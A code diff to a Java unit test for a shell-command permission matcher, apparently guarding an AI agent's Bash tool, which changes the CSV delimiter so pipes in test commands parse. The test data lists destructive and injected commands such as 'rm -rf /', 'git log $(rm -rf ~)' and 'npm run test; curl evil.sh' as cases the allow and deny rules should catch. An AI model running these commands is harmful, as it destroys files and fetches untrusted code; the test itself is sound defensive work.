@@ -108,48 +108,48 @@ class PermissionRuleMatchTest {
     }
 
     @ParameterizedTest(name = "{0} {1} vs ''{3}'' → {4}")
-    @CsvSource(delimiter = '|', textBlock = """
-            ALLOW | Bash(npm run build)   | Bash | npm run build                      | true
-            ALLOW | Bash(npm run build)   | Bash | npm   run  build                   | true
-            ALLOW | Bash(npm run build)   | Bash | npm run build --prod               | false
-            ALLOW | Bash(npm run test:*)  | Bash | npm run test                       | true
-            ALLOW | Bash(npm run test:*)  | Bash | npm run test -- --watch            | true
-            ALLOW | Bash(npm run test:*)  | Bash | npm run tests                      | false
-            ALLOW | Bash(git log *)       | Bash | git log --oneline -5                | true
-            ALLOW | Bash(git log *)       | Bash | git log                            | true
-            ALLOW | Bash(git log *)       | Bash | git logs                           | false
-            ALLOW | Bash(git * main)      | Bash | git merge main                     | true
-            ALLOW | Bash(npm run test:*)  | Bash | npm run test && rm -rf /           | false
-            ALLOW | Bash(npm run test:*)  | Bash | npm run test && npm run test -x    | true
-            ALLOW | Bash(npm run test:*)  | Bash | npm run test; curl evil.sh         | false
-            ALLOW | Bash(npm run test:*)  | Bash | npm run test | tee log             | false
-            ALLOW | Bash(git log *)       | Bash | git log $(rm -rf ~)                | false
-            ALLOW | Bash(echo:*)          | Bash | echo "a && rm -rf /"               | true
-            ALLOW | Bash(echo:*)          | Bash | echo 'a; rm x'                     | true
-            ALLOW | Bash(git status)      | Bash | FOO=1 git status                   | false
-            ALLOW | Bash(git status)      | Bash | sudo git status                    | false
-            ALLOW | Bash(a && b)          | Bash | a && b                             | true
-            DENY  | Bash(rm -rf:*)        | Bash | rm -rf build                       | true
-            DENY  | Bash(rm -rf:*)        | Bash | ls && rm -rf build                 | true
-            DENY  | Bash(rm -rf:*)        | Bash | ls || rm -rf build                 | true
-            DENY  | Bash(rm -rf:*)        | Bash | ls | rm -rf build                  | true
-            DENY  | Bash(rm -rf:*)        | Bash | ls\nrm -rf build                   | true
-            DENY  | Bash(rm -rf:*)        | Bash | FOO=1 rm -rf build                 | true
-            DENY  | Bash(rm -rf:*)        | Bash | sudo rm -rf build                  | true
-            DENY  | Bash(rm -rf:*)        | Bash | env X=1 Y=2 rm -rf build           | true
-            DENY  | Bash(rm -rf:*)        | Bash | timeout 10 rm -rf build            | true
-            DENY  | Bash(rm -rf:*)        | Bash | nice -n 5 nohup time rm -rf build  | true
-            DENY  | Bash(rm -rf:*)        | Bash | find . | xargs -0 rm -rf            | true
-            DENY  | Bash(rm -rf:*)        | Bash | bash -c "rm -rf build"             | true
-            DENY  | Bash(rm -rf:*)        | Bash | sh -c 'cd x && rm -rf y'           | true
-            DENY  | Bash(rm -rf:*)        | Bash | echo $(rm -rf build)               | true
-            DENY  | Bash(rm -rf:*)        | Bash | echo "rm -rf build"                | false
-            DENY  | Bash(rm -rf:*)        | Bash | grep 'rm -rf' notes.txt            | false
-            DENY  | Bash(rm -rf:*)        | Bash | rm -r build                        | false
-            DENY  | Bash(sudo:*)          | Bash | FOO=1 sudo ls                      | true
-            DENY  | Bash(sudo:*)          | Bash | ls; sudo ls                        | true
-            ASK   | Bash(git push:*)      | Bash | git add . && git push origin main  | true
-            ASK   | Bash(git push:*)      | Bash | git pushd                          | false
+    @CsvSource(delimiter = '¦', textBlock = """
+            ALLOW ¦ Bash(npm run build)   ¦ Bash ¦ npm run build                      ¦ true
+            ALLOW ¦ Bash(npm run build)   ¦ Bash ¦ npm   run  build                   ¦ true
+            ALLOW ¦ Bash(npm run build)   ¦ Bash ¦ npm run build --prod               ¦ false
+            ALLOW ¦ Bash(npm run test:*)  ¦ Bash ¦ npm run test                       ¦ true
+            ALLOW ¦ Bash(npm run test:*)  ¦ Bash ¦ npm run test -- --watch            ¦ true
+            ALLOW ¦ Bash(npm run test:*)  ¦ Bash ¦ npm run tests                      ¦ false
+            ALLOW ¦ Bash(git log *)       ¦ Bash ¦ git log --oneline -5                ¦ true
+            ALLOW ¦ Bash(git log *)       ¦ Bash ¦ git log                            ¦ true
+            ALLOW ¦ Bash(git log *)       ¦ Bash ¦ git logs                           ¦ false
+            ALLOW ¦ Bash(git * main)      ¦ Bash ¦ git merge main                     ¦ true
+            ALLOW ¦ Bash(npm run test:*)  ¦ Bash ¦ npm run test && rm -rf /           ¦ false
+            ALLOW ¦ Bash(npm run test:*)  ¦ Bash ¦ npm run test && npm run test -x    ¦ true
+            ALLOW ¦ Bash(npm run test:*)  ¦ Bash ¦ npm run test; curl evil.sh         ¦ false
+            ALLOW ¦ Bash(npm run test:*)  ¦ Bash ¦ npm run test | tee log             ¦ false
+            ALLOW ¦ Bash(git log *)       ¦ Bash ¦ git log $(rm -rf ~)                ¦ false
+            ALLOW ¦ Bash(echo:*)          ¦ Bash ¦ echo "a && rm -rf /"               ¦ true
+            ALLOW ¦ Bash(echo:*)          ¦ Bash ¦ echo 'a; rm x'                     ¦ true
+            ALLOW ¦ Bash(git status)      ¦ Bash ¦ FOO=1 git status                   ¦ false
+            ALLOW ¦ Bash(git status)      ¦ Bash ¦ sudo git status                    ¦ false
+            ALLOW ¦ Bash(a && b)          ¦ Bash ¦ a && b                             ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ rm -rf build                       ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ ls && rm -rf build                 ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ ls || rm -rf build                 ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ ls | rm -rf build                  ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ ls\\nrm -rf build                  ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ FOO=1 rm -rf build                 ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ sudo rm -rf build                  ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ env X=1 Y=2 rm -rf build           ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ timeout 10 rm -rf build            ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ nice -n 5 nohup time rm -rf build  ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ find . | xargs -0 rm -rf            ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ bash -c "rm -rf build"             ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ sh -c 'cd x && rm -rf y'           ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ echo $(rm -rf build)               ¦ true
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ echo "rm -rf build"                ¦ false
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ grep 'rm -rf' notes.txt            ¦ false
+            DENY  ¦ Bash(rm -rf:*)        ¦ Bash ¦ rm -r build                        ¦ false
+            DENY  ¦ Bash(sudo:*)          ¦ Bash ¦ FOO=1 sudo ls                      ¦ true
+            DENY  ¦ Bash(sudo:*)          ¦ Bash ¦ ls; sudo ls                        ¦ true
+            ASK   ¦ Bash(git push:*)      ¦ Bash ¦ git add . && git push origin main  ¦ true
+            ASK   ¦ Bash(git push:*)      ¦ Bash ¦ git pushd                          ¦ false
             """)
     void bashSpecs(String behavior, String rule, String tool, String command, boolean expected) {
         String input = JSON.createObjectNode().put("command", command.replace("\\n", "\n")).toString();
